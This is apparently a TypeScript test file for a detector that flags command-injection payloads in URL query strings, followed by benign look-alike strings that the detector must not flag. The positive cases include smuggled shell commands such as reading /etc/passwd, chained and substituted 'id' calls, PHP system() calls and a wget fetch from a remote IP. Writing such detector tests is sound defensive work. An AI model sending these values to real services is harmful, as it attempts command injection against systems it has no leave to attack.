import assert from 'node:assert/strict';
import { test } from 'node:test';
import { commandIn } from '../../../src/correlate/after/commands.ts';

const isIn = (query: string): boolean => {
  const bytes = Uint8Array.from(`?${query}`, (letter) => letter.charCodeAt(0));
  return commandIn(bytes, 1, bytes.length) !== 0;
};

test('values that a shell, or a program that hands them to one, would carry out', () => {
  for (const query of [
    'c=id',
    'x=1&cmd=cat%20/etc/passwd',
    'whoami',
    'c=/bin/ls+-la',
    'host=127.0.0.1;id',
    'host=%3Bps%20aux',
    'a=%60uname+-a%60',
    'c=system(%27id%27)',
    'c=phpinfo%28%29',
    'p=x|+wget+http://198.18.6.6/a',
    'c=%2Fusr%2Fbin%2Fid',
    'host=1%26%26%20id',
    'host=1%0Acat%20x',
    'name=$(id)',
    'name=`id`',
    'name=%24%28id%29',
  ])
    assert.ok(isIn(query), query);
});

test('words that begin alike, names of parameters, and prose', () => {
  for (const query of [
    '',
    'id=7',
    'cmd=',
    'q=identity',
    'q=cats+and+dogs',
    'ls=1',
    'q=system',
    'q=a;b',
    'sort=name|id2',
    'q=R%26D',
    'price=$(7)',
    'path=%2Fhome%2Fpage',
  ])
    assert.ok(!isIn(query), query);
});
